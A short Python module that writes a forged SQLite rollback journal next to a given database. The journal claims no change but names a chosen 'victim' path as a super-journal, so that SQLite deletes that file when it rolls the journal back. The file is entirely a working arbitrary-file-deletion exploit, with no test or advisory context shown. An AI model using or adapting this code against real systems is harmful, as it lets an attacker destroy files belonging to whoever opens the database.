"""Makes the journal of a database by which SQLite deletes a file of its author's choice."""

from __future__ import annotations

from pathlib import Path

_MARK = bytes.fromhex("d9d505f920a163d7")


def write_foreign_journal(database: Path, victim: Path) -> None:
    """Write a journal of no change at all, which names `victim` as one of several databases that changed at once."""
    content = database.read_bytes()
    page = int.from_bytes(content[16:18], "big")
    head = [0, 1234, len(content) // page, 512, page]
    name = bytes(victim)
    locked_page = (1 << 30) // page + 1
    last = [len(name), sum(name)]
    database.with_name(f"{database.name}-journal").write_bytes(
        (_MARK + _numbers(head)).ljust(512, b"\0") + _numbers([locked_page]) + name + _numbers(last) + _MARK
    )


def _numbers(values: list[int]) -> bytes:
    return b"".join(value.to_bytes(4, "big") for value in values)
